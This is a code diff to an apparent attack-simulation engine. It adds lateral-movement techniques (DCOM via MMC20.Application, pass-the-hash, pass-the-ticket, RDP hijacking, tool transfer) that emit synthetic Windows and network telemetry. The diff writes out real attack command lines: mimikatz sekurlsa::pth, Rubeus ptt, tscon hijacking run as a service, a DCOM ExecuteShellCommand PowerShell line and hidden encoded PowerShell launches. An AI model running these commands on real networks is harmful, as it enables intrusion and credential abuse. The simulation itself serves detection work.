@@ -34,6 +34,38 @@ var lateralMovement = []*Technique{
 		Telemetry: []string{"windows/security 4624", "windows/sysmon 1 3", "windows/powershell 4104", "zeek/conn"}, Achieves: "control", Tools: []string{"Enter-PSSession", "Invoke-Command", "winrs"}, Takes: sim.LogNormal(2*time.Minute, 0.8), Success: 0.93,
 		ready: needHop, run: func(a *Attempt) Progress { return hop(a, 5985, "http") },
 	},
+	{
+		ID: "T1021.003", Name: "Remote Services: Distributed Component Object Model", Tactic: "lateral-movement", Platforms: []string{"windows"},
+		Needs: "a foothold, and a credential that administers a known host", Effect: "an elevated foothold on that host",
+		Telemetry: []string{"windows/security 4624", "windows/sysmon 1 3", "zeek/conn"}, Achieves: "control", Tools: []string{"MMC20.Application", "ShellWindows"}, Takes: sim.LogNormal(2*time.Minute, 0.8), Success: 0.9,
+		ready: needHop, run: func(a *Attempt) Progress { return hop(a, 135, "dce_rpc") },
+	},
+	{
+		ID: "T1550.002", Name: "Use Alternate Authentication Material: Pass the Hash", Tactic: "lateral-movement", Platforms: []string{"windows"},
+		Needs: "a foothold, and a hash that administers a known host", Effect: "an elevated foothold on that host",
+		Telemetry: []string{"windows/security 4624 4776", "windows/sysmon 1 3", "zeek/conn"}, Achieves: "control", Tools: []string{"sekurlsa::pth", "impacket from the implant"}, Takes: sim.LogNormal(2*time.Minute, 0.8), Success: 0.92,
+		ready: needHop, run: func(a *Attempt) Progress { return hop(a, 445, "smb") },
+	},
+	{
+		ID: "T1550.003", Name: "Use Alternate Authentication Material: Pass the Ticket", Tactic: "lateral-movement", Platforms: []string{"windows"},
+		Needs: "a foothold, and a ticket that administers a known host", Effect: "an elevated foothold on that host",
+		Telemetry: []string{"windows/security 4624 4769", "windows/sysmon 1 3", "zeek/kerberos"}, Achieves: "control", Tools: []string{"Rubeus ptt", "injected by the implant"}, Takes: sim.LogNormal(2*time.Minute, 0.8), Success: 0.92,
+		ready: needHop, run: func(a *Attempt) Progress { return hop(a, 5985, "http") },
+	},
+	{
+		ID: "T1563.002", Name: "Remote Service Session Hijacking: RDP Hijacking", Tactic: "lateral-movement", Effect: "somebody else's session is the attacker's", Takes: quick, Success: 0.85,
+		script: &script{at: onElevated, then: stealOwner, variants: []variant{
+			by("tscon", cmd(world.Tscon, `tscon.exe 2 /dest:rdp-tcp#55`)),
+			by("tscon as a service", installService("sesshijack", `cmd.exe /k tscon 2 /dest:rdp-tcp#55`), asSystem(world.Services, world.Cmd, `cmd.exe /k tscon 2 /dest:rdp-tcp#55`)),
+		}},
+	},
+	{
+		ID: "T1570", Name: "Lateral Tool Transfer", Tactic: "lateral-movement", Effect: "the tools lie on another host", Takes: sim.LogNormal(2*time.Minute, 0.8), Success: 0.95,
+		script: &script{at: anywhere, variants: []variant{
+			by("copy to the admin share", either(cmd(world.Cmd, `cmd.exe /c copy C:\Users\Public\agent.exe \\{dc}\C$\Windows\Temp\agent.exe`), sh(world.SCP, "scp /tmp/.agent root@10.30.0.40:/tmp/")), copied),
+			by("quiet copy", either(cmd(world.Robocopy, `robocopy.exe C:\Users\Public \\{dc}\C$\Windows\Temp agent.exe`), sh(world.Rsync, "rsync /tmp/.agent root@10.30.0.40:/tmp/")), copied),
+		}},
+	},
 }
 
 func needHop(s *State) error {
@@ -56,7 +88,7 @@ func needHop(s *State) error {
 func (a *Attempt) chooseTarget(port int) *world.Host {
 	fits := func(h *world.Host) bool {
 		return h.Windows() && !a.On(h) && a.credentialFor(h) != nil &&
-			slices.ContainsFunc(h.Ports, func(p world.Port) bool { return p.Number == port })
+			(port == 135 || slices.ContainsFunc(h.Ports, func(p world.Port) bool { return p.Number == port })) // every Windows host answers on 135
 	}
 	if role := a.Options["role"]; role != "" {
 		if h := a.pick(&a.Rand, func(h *world.Host) bool { return h.Role == role && fits(h) }); h != nil {
@@ -137,7 +169,16 @@ func hopTool(a *Attempt, f *Foothold, service string) *world.Process {
 		return a.start(f, world.PsExec.Renamed(`C:\Users\Public\PsExec64.exe`), `PsExec64.exe -accepteula \\`+a.Target.Name+` -s cmd.exe`)
 	case service == "smb" && a.Tool == "renamed psexec":
 		return a.start(f, world.PsExec.Renamed(`C:\Users\Public\upd.exe`), `upd.exe -accepteula \\`+a.Target.Name+` -s -r sysmgmt cmd.exe`)
-	case service == "http" && a.Tool != "winrs":
+	case a.Tool == "sekurlsa::pth":
+		a.World.WindowsLog(a.Now+time.Second, a.Actor, f.Host, f.Account, "Security 4624", "TargetUserName", a.credentialFor(a.Target).Account.Name, "LogonType", "9", "LogonProcessName", "seclogo", "AuthenticationPackageName", "Negotiate", "KeyLength", "0")
+		return a.start(f, mimikatz, a.text(f, `mimikatz.exe "sekurlsa::pth /user:`+a.credentialFor(a.Target).Account.Name+` /domain:{domain} /ntlm:cc36cf7a8514893efccd332446158b1a" exit`))
+	case a.Tool == "Rubeus ptt":
+		return a.start(f, rubeus, `Rubeus.exe ptt /ticket:C:\Users\Public\t.kirbi`)
+	case service == "dce_rpc":
+		line := `$c=[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","` + a.Target.Name + `")); $c.Document.ActiveView.ExecuteShellCommand("cmd",$null,"/c C:\Users\Public\agent.exe","7")`
+		a.World.RunScript(a.Now, a.Actor, f.Host, line)
+		return a.start(f, world.PowerShell, `powershell.exe -c "`+line+`"`)
+	case service == "http" && a.Technique.ID == "T1021.006" && a.Tool != "winrs":
 		line := "Invoke-Command -ComputerName " + a.Target.Name + " -ScriptBlock { hostname }"
 		if a.Tool == "Enter-PSSession" {
 			line = "Enter-PSSession -ComputerName " + a.Target.Name
@@ -164,7 +205,7 @@ func arrive(a *Attempt, from *Foothold, h *world.Host, who *world.Account, port 
 			name, image, pipe = "sysmgmt", `%SystemRoot%\sysmgmt.exe`, `\sysmgmt`
 		case "service by rpc":
 			name = sim.Pick(&a.Rand, []string{"Updater", "NetSvcHelper", "WinTelemetry"})
-			image, pipe = `%COMSPEC% /c powershell.exe -nop -w hidden -enc `+encoded("IEX $env:x"), ""
+			image, pipe = `%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand `+encoded("IEX $env:x"), ""
 		}
 		w.OpenShare(a.Now, a.Actor, world.At(from.Host), h, who, `\\*\ADMIN$`)
 		if pipe != "" {
@@ -184,6 +225,12 @@ func arrive(a *Attempt, from *Foothold, h *world.Host, who *world.Account, port 
 	case 5985:
 		shell := w.StartProcess(a.Now, a.Actor, world.Start{Host: h, Account: who, Binary: world.WsmProvHost, CommandLine: `C:\Windows\system32\wsmprovhost.exe -Embedding`, Integrity: "High"})
 		w.StartProcess(a.Now+time.Second, a.Actor, world.Start{Host: h, Account: who, Binary: world.Whoami, CommandLine: `"C:\Windows\system32\whoami.exe"`, Parent: shell, Integrity: "High"})
+	case 135:
+		parent := &world.Process{Host: h, PID: 4412, Binary: world.Mmc, CommandLine: `C:\Windows\system32\mmc.exe -Embedding`, Account: who, Integrity: "High", GUID: "{00000000-0000-0000-0000-00000000113c}"}
+		if a.Tool == "ShellWindows" {
+			parent.Binary, parent.CommandLine = world.Explorer, `C:\Windows\Explorer.EXE`
+		}
+		w.StartProcess(a.Now, a.Actor, world.Start{Host: h, Account: who, Binary: world.Cmd, CommandLine: `"C:\Windows\System32\cmd.exe" /c C:\Users\Public\agent.exe`, Parent: parent, Integrity: "High"})
 	case 3389:
 		w.StartProcess(a.Now, a.Actor, world.Start{Host: h, Account: who, Binary: world.Cmd, CommandLine: `"C:\Windows\system32\cmd.exe"`})
 	}
@@ -224,3 +271,22 @@ func hopOverSSH(a *Attempt) Progress {
 	a.gain(&Foothold{Host: a.Target, Implant: i, Via: f, Port: 22, Since: a.Now, Elevated: true})
 	return success("moved from %s to %s with a key", f.Host.Name, a.Target.Name)
 }
+
+// copied is a file that arrives on a neighbour over SMB, as its share log shows.
+var copied = move{"windows/security 5145, zeek/conn", func(a *Attempt, f *Foothold) world.Refusal {
+	if !f.Host.Windows() {
+		return world.Refusal{}
+	}
+	dc := a.World.DomainController(f.Host)
+	if dc == nil {
+		return world.Refusal{}
+	}
+	if r := a.World.Reach(world.At(f.Host), world.At(dc), 445); !r.OK() {
+		return r
+	}
+	a.World.Flow(a.Now, a.Actor, world.Flow{From: world.At(f.Host), To: world.At(dc), Port: 445, Service: "smb", Process: a.last(f), Sent: 3e6, Received: 30e3, Duration: 3 * time.Second})
+	a.World.AccessShareFile(a.Now, a.Actor, world.At(f.Host), dc, f.Account, `\\*\C$`, `Windows\Temp\agent.exe`, true)
+	return world.Refusal{}
+}}
+
+var rubeus = world.Dropped(`C:\Users\Public\Rubeus.exe`, &plain)
